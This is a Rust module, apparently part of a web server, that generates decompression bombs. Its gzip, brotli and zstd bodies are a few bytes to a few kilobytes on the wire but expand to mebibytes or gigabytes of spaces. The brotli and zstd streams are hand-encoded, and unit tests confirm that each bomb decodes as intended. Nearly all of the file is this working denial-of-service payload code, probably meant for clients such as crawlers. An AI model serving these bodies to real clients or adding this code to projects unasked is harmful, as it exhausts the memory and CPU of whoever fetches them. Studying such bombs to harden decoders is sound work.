//! Bombs: bodies that are small on the wire and large when they are decompressed.
//!
//! None is ever held whole. Of gzip, one mebibyte is compressed and then sent again and
//! again: a block refers to what is in the window, and there the same spaces are. Brotli
//! and zstd can say "this byte, so many times" in a few bytes, so theirs are written here
//! bit by bit (RFC 7932, section 9; RFC 8878, section 3.1.1).
//!
//! ```text
//!  gzip    header ─ first MiB ─ the next MiB × n ─ end, CRC-32, length       1000 : 1
//!  brotli  window ─ (1 literal, a copy of 16 MiB - 1 from 1 back) × n ─ end  1.3 million : 1
//!  zstd    frame ─ (RLE block of 128 KiB) × n ─ last RLE block               32,000 : 1
//! ```

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};

use crate::site::bits::Bits;
use crate::site::body::Step;

const MIB: usize = 1 << 20;
/// The largest block of zstd.
const BLOCK: u32 = 128 << 10;
/// The largest meta-block of brotli whose length has six hexadecimal digits.
const META: u32 = 1 << 24;

/// gzip: `head`, and so many mebibytes of spaces, at least one.
pub fn gzip(head: &[u8], mebibytes: u32) -> Vec<Step> {
    let spaces = vec![b' '; MIB];
    let mut compress = Compress::new(Compression::best(), false);
    let mut start = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    start.extend(deflated(&mut compress, head, FlushCompress::Sync));
    start.extend(deflated(&mut compress, &spaces, FlushCompress::Sync));
    let again = deflated(&mut compress, &spaces, FlushCompress::Sync);
    let (mut crc, mut one) = (Crc::new(), Crc::new());
    crc.update(head);
    one.update(&spaces);
    (0..mebibytes).for_each(|_| crc.combine(&one));
    let mut end = vec![1, 0, 0, 255, 255]; // a stored block of nothing, the last
    end.extend(crc.sum().to_le_bytes());
    end.extend(crc.amount().to_le_bytes());
    vec![
        Step::Send(start.into()),
        Step::Repeat(again.into(), u64::from(mebibytes) - 1),
        Step::Send(end.into()),
    ]
}

fn deflated(compress: &mut Compress, bytes: &[u8], flush: FlushCompress) -> Vec<u8> {
    let mut out = Vec::with_capacity(bytes.len() / 100 + 1024);
    // It stops only when `out` is full, which has room for spaces, and for a short head.
    let _ = compress.compress_vec(bytes, &mut out, flush);
    out
}

/// brotli: so many times 16 mebibytes of spaces.
pub fn brotli(times: u32) -> Vec<Step> {
    let mut bits = Bits::default();
    bits.put(1, 0); // a window of 64 KiB
    for _ in 0..times {
        meta_block(&mut bits);
    }
    bits.put(2, 0b11); // the last meta-block, and it is empty
    vec![Step::Send(bits.bytes().into())]
}

/// A space, and a copy of all the rest from one byte back. Every prefix code has a single
/// symbol, so the symbols themselves take no bits.
fn meta_block(bits: &mut Bits) {
    bits.put(1, 0); // not the last
    bits.put(2, 2); // six digits of length
    bits.put(24, META - 1);
    bits.put(1, 0); // compressed
    bits.put(3, 0); // one type of block, of each of the three kinds
    bits.put(6, 0); // no distances are direct
    bits.put(2, 0); // how contexts are modelled, of which there is one
    bits.put(2, 0); // one tree for literals, one for distances
    single(bits, 8, u32::from(b' '));
    single(bits, 10, 384 + (1 << 3) + 7); // insert 1 byte, copy 2118 and more
    single(bits, 6, 16); // a distance of 1 or 2
    bits.put(24, META - 1 - 2118); // so many more are copied
    bits.put(1, 0); // a distance of 1
}

/// A simple prefix code of one symbol.
fn single(bits: &mut Bits, width: u32, symbol: u32) {
    bits.put(2, 1);
    bits.put(2, 0);
    bits.put(width, symbol);
}

/// zstd: so many mebibytes of spaces, for a window of `2^window` bytes, at least 2^17.
pub fn zstd(mebibytes: u32, window: u8) -> Vec<Step> {
    let start = [0x28, 0xb5, 0x2f, 0xfd, 0, (window - 10) << 3];
    let block = |last: u32| (last | 1 << 1 | BLOCK << 3).to_le_bytes()[..3].to_vec();
    let with = |mut block: Vec<u8>| {
        block.push(b' ');
        Bytes::from(block)
    };
    let blocks = u64::from(mebibytes) * 8 - 1;
    vec![
        Step::Send(Bytes::copy_from_slice(&start)),
        Step::Repeat(with(block(0)), blocks),
        Step::Send(with(block(1))),
    ]
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    fn whole(steps: Vec<Step>) -> Vec<u8> {
        let mut whole = Vec::new();
        for step in steps {
            match step {
                Step::Send(bytes) => whole.extend(bytes),
                Step::Repeat(bytes, times) => (0..times).for_each(|_| whole.extend(&bytes)),
                _ => panic!("{step:?}"),
            }
        }
        whole
    }

    fn spaces(mut reader: impl Read) -> usize {
        let mut bytes = Vec::new();
        reader.read_to_end(&mut bytes).unwrap();
        assert!(bytes.iter().all(|byte| *byte == b' '));
        bytes.len()
    }

    #[test]
    fn a_gzip_bomb_is_gzip_of_its_head_and_so_many_spaces() {
        let packed = whole(gzip(b"<html>", 3));
        assert!(packed.len() < 5000, "{}", packed.len());
        let mut bytes = Vec::new();
        flate2::read::GzDecoder::new(&packed[..]).read_to_end(&mut bytes).unwrap();
        assert_eq!(&bytes[..6], b"<html>");
        assert_eq!(spaces(&bytes[6..]), 3 * MIB);
    }

    #[test]
    fn a_brotli_bomb_is_brotli_of_so_many_spaces() {
        let packed = whole(brotli(2));
        assert!(packed.len() < 30, "{}", packed.len());
        let decoder = brotli_decompressor::Decompressor::new(&packed[..], 4096);
        assert_eq!(spaces(decoder), 2 * META as usize);
    }

    #[test]
    fn a_zstd_bomb_is_zstd_of_so_many_spaces() {
        let packed = whole(zstd(3, 20));
        assert!(packed.len() < 120, "{}", packed.len());
        assert_eq!(spaces(zstd::Decoder::new(&packed[..]).unwrap()), 3 * MIB);
    }

    #[test]
    fn a_zstd_window_beyond_what_is_allowed_says_so() {
        let packed = whole(zstd(1, 30));
        let mut decoder = zstd::Decoder::new(&packed[..]).unwrap();
        decoder.window_log_max(23).unwrap();
        let error = decoder.read_to_end(&mut Vec::new()).unwrap_err().to_string();
        assert!(error.contains("too much memory"), "{error}");
    }
}
